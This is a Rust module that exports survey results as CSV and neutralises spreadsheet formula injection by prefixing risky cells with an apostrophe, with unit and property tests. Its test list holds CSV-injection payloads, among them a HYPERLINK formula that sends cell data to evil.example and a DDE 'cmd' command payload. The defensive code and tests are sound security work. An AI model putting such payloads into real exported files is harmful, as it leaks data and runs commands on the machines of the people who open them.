//! Writes the export as CSV (RFC 4180) with a header and CRLF line ends. Cells are quoted where
//! needed.
//!
//! A spreadsheet runs any cell that looks like a formula, and people can write anything into a
//! comment. An apostrophe in front of such a cell makes it text (OWASP, "CSV Injection"). This can
//! be undone without doubt. An apostrophe before what would be a formula was added here. Any other
//! was in the text. JSON Lines keeps every text as it was.
//!
//! People who open the file in a spreadsheet have their own [`Dialect`]. A spreadsheet turns
//! whatever looks like a number into one and keeps 15 digits. So an id ends in a tab there, which
//! makes it a text and cannot be seen. `="…"` would work too. But where formulas from files are not
//! run, the cell would show it literally.
//!
//! The separator is the comma. A user whose spreadsheet expects another must say so when opening
//! the file. Otherwise it splits cells at its own separator, and no apostrophe stands there.

use std::{borrow::Cow, io};

use csv::{Terminator, Writer, WriterBuilder};

use crate::domain::time::Millis;
use crate::results::{COLUMNS, ColumnType, ColumnValue, ResultRow};

/// The reader of the file.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Dialect {
    Programs,
    /// For people with Excel or LibreOffice. The file has a byte order mark. Ids stay texts. Dates
    /// have the form that both programs take for dates.
    Spreadsheets,
}

/// Excel recognises UTF-8 by this mark.
const BYTE_ORDER_MARK: &str = "\u{feff}";

/// Writes rows as CSV. It buffers its output, so the writer below needs no buffer.
pub struct CsvExport<W: io::Write> {
    out: Writer<W>,
    dialect: Dialect,
}

impl<W: io::Write> CsvExport<W> {
    /// Begins an export by writing its header.
    pub fn new(mut writer: W, dialect: Dialect) -> io::Result<Self> {
        if dialect == Dialect::Spreadsheets {
            writer.write_all(BYTE_ORDER_MARK.as_bytes())?;
        }
        let mut out = WriterBuilder::new().terminator(Terminator::CRLF).from_writer(writer);
        out.write_record(COLUMNS.map(|column| column.name))?;
        Ok(Self { out, dialect })
    }

    /// Writes one survey.
    ///
    /// Tags are joined by `|`. A tag that contains `|` itself looks like two tags here. JSON Lines
    /// keeps them apart.
    pub fn row(&mut self, row: &ResultRow) -> io::Result<()> {
        for column in &COLUMNS {
            let cell = (column.read)(row).map(|value| self.dialect.cell(column.kind, value));
            self.out.write_field(cell.as_deref().unwrap_or_default().as_bytes())?;
        }
        Ok(self.out.write_record(None::<&[u8]>)?)
    }

    /// Writes the rest of the buffer and returns the writer. Without this call the end of the file
    /// may be lost without an error.
    pub fn finish(self) -> io::Result<W> {
        self.out.into_inner().map_err(csv::IntoInnerError::into_error)
    }
}

impl Dialect {
    fn cell(self, kind: ColumnType, value: ColumnValue<'_>) -> Cow<'_, str> {
        match value {
            ColumnValue::Text(text) if kind == ColumnType::Id => self.id(text),
            ColumnValue::Text(text) if kind == ColumnType::Word => text,
            ColumnValue::Text(text) => defused(text),
            ColumnValue::Number(number) => Cow::Owned(number.to_string()),
            ColumnValue::Time(at) => Cow::Owned(self.time(at)),
            ColumnValue::Flag(is) => Cow::Borrowed(if is { "true" } else { "false" }),
            ColumnValue::List(texts) => defused(Cow::Owned(texts.join("|"))),
        }
    }

    /// Writes an id or a name that may be one.
    fn id(self, id: Cow<'_, str>) -> Cow<'_, str> {
        match self {
            Self::Spreadsheets if !id.is_empty() => Cow::Owned(defused(id).into_owned() + "\t"),
            Self::Spreadsheets | Self::Programs => defused(id),
        }
    }

    fn time(self, at: Millis) -> String {
        let written = at.rfc3339();
        match self {
            Self::Programs => written,
            // The time is given to the second in UTC.
            Self::Spreadsheets => written.replace('T', " ").chars().take(19).collect(),
        }
    }
}

/// Returns the text, with an apostrophe in front if a spreadsheet might run it.
pub fn defused(text: Cow<'_, str>) -> Cow<'_, str> {
    if is_formula(&text) { Cow::Owned(format!("'{text}")) } else { text }
}

/// True if a spreadsheet might take the text for a formula.
///
/// Full-width signs count, since some input methods write them and some spreadsheets accept them.
/// Signs after spaces and quotes count too, because a spreadsheet may strip those first. A leading
/// tab, line end or NUL makes some spreadsheets move the rest into a cell of its own.
pub(super) fn is_formula(text: &str) -> bool {
    let is_skipped = |c: char| {
        c.is_whitespace()
            || c.is_control()
            || matches!(c, '"' | '\'' | '“' | '”' | '‘' | '’' | '\u{200b}' | '\u{feff}')
    };
    let starts_a_formula = |c: char| matches!(c, '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠');
    text.starts_with(['\t', '\r', '\n', '\0'])
        || text.chars().find(|c| !is_skipped(*c)).is_some_and(starts_a_formula)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::domain::close::Notice;
    use crate::domain::id::{ConversationId, FeedbackId};
    use crate::domain::survey::{Delivery, Failure, State};
    use crate::results::samples::{answered, suppressed};

    fn written(rows: &[ResultRow]) -> String {
        let mut export = CsvExport::new(Vec::new(), Dialect::Programs).unwrap();
        rows.iter().for_each(|row| export.row(row).unwrap());
        String::from_utf8(export.finish().unwrap()).unwrap()
    }

    fn header() -> String {
        COLUMNS.map(|column| column.name).join(",")
    }

    /// The cell of that column as a reader of CSV finds it in the one row.
    fn read_back(row: &ResultRow, column: &str) -> String {
        let written = written(std::slice::from_ref(row));
        let mut reader = csv::Reader::from_reader(written.as_bytes());
        let place = reader.headers().unwrap().iter().position(|name| name == column).unwrap();
        let records: Vec<_> = reader.records().map(Result::unwrap).collect();
        assert_eq!(records.len(), 1);
        records[0][place].to_owned()
    }

    fn comment(text: &str) -> ResultRow {
        let mut row = answered();
        row.told.text = Some(text.to_owned());
        row
    }

    #[test]
    fn the_export_reads_like_this() {
        assert_eq!(
            written(&[answered(), suppressed()]),
            "survey_id,account,source,conversation_id,external_id,user_id,state,reason,closed_at,\
             due_at,sent_at,feedback_id,dm_id,type,question_variant_id,test,score,scored_at,text,\
             commented_at,updated_at,updates,agent,team,tags,language\r\n\
             s-1,acme,desk,c-42,c-42#2,343434343434,answered,,2026-11-22T07:59:58.000Z,\
             2026-11-22T08:04:58.000Z,2026-11-22T08:05:00.250Z,f-1,d-1,csat,12,false,4,\
             2026-11-22T08:06:00.000Z,\"Good, thanks\",2026-11-22T08:07:00.000Z,2026-11-22T08:07:00.000Z,2,\
             dana,billing,vip|late,es\r\n\
             s-2,acme,desk,c-43,c-43,,suppressed,throttled,2026-11-22T08:00:00.000Z,\
             2026-11-22T08:05:00.000Z,,,,nps,0,true,,,,,,0,,,,\r\n"
        );
    }

    #[test]
    fn the_export_for_spreadsheets_reads_like_this() {
        let mut export = CsvExport::new(Vec::new(), Dialect::Spreadsheets).unwrap();
        let mut row = answered();
        row.survey.external_id = "19283746556473829101".into();
        row.survey.notice.team = Some("=1+1".into());
        export.row(&row).unwrap();
        let written = String::from_utf8(export.finish().unwrap()).unwrap();
        let rows = written.strip_prefix(&format!("\u{feff}{}\r\n", header())).unwrap();
        assert_eq!(
            rows,
            "s-1\t,acme,desk,c-42\t,19283746556473829101\t,343434343434\t,answered,,2026-11-22 07:59:58,\
             2026-11-22 08:04:58,2026-11-22 08:05:00,f-1\t,d-1\t,csat,12,false,4,\
             2026-11-22 08:06:00,\"Good, thanks\",2026-11-22 08:07:00,2026-11-22 08:07:00,2,\
             dana\t,'=1+1\t,vip|late,es\r\n"
        );
    }

    #[test]
    fn an_export_without_rows_still_has_its_header() {
        assert_eq!(written(&[]), format!("{}\r\n", header()));
    }

    #[test]
    fn what_a_spreadsheet_would_run_is_text() {
        for hostile in [
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\rhello",
            "\nhello",
            "\0hello",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
            "  =1",
            "\u{a0}=1",
            "\u{feff}=1",
            "\"=1",
            "'=1",
            " \" ' =HYPERLINK(\"https://evil.example/?\"&A1,\"look\")",
            "=cmd|' /C calc'!A0",
        ] {
            assert_eq!(read_back(&comment(hostile), "text"), format!("'{hostile}"));
        }
    }

    #[test]
    fn an_honest_text_is_not_touched() {
        for honest in [
            "",
            "Good, thanks",
            "'tis fine",
            "5 - 3 = 2",
            "me@acme.example",
            "line one\nline two",
            "she said \"no\"",
            "ありがとう",
            "…",
        ] {
            assert_eq!(read_back(&comment(honest), "text"), honest);
        }
    }

    #[test]
    fn every_cell_that_others_wrote_is_defused() {
        let hostile = || "=1".to_owned();
        let mut row = comment("=1");
        row.survey.account = hostile();
        row.survey.source = hostile();
        row.survey.conversation_id = ConversationId::parse("=1").unwrap();
        row.survey.external_id = hostile();
        row.survey.state = State::Sent(Delivery {
            sent_at: row.survey.due_at,
            feedback_id: FeedbackId::new("=1"),
            dm_id: Some(hostile()),
        });
        row.survey.notice = Notice {
            agent: Some(hostile()),
            team: Some(hostile()),
            tags: vec![hostile()],
            language: Some(hostile()),
            ..Notice::default()
        };
        let mut failed = answered();
        failed.survey.state = State::Failed(Failure { code: None, message: hostile() });
        let written = written(&[row, failed]);
        assert_eq!(written.matches("'=1").count(), 12);
        assert_eq!(written.matches("=1").count(), 12);
    }

    proptest! {
        #[test]
        fn a_reader_of_csv_finds_every_text_as_it_was(text in any::<String>()) {
            let found = read_back(&comment(&text), "text");
            let undone = match found.strip_prefix('\'') {
                Some(rest) if is_formula(rest) => rest,
                _ => &found,
            };
            prop_assert_eq!(undone, text);
        }

        #[test]
        fn no_cell_begins_with_a_formula(text in "[ \"'\t\r\n\0]{0,3}[-=+@＝＋－＠a]?.*") {
            let found = read_back(&comment(&text), "text");
            let first = found.chars().next().unwrap_or('a');
            prop_assert!(!"=+-@\t\r\n\0＝＋－＠".contains(first), "{found:?}");
        }
    }
}
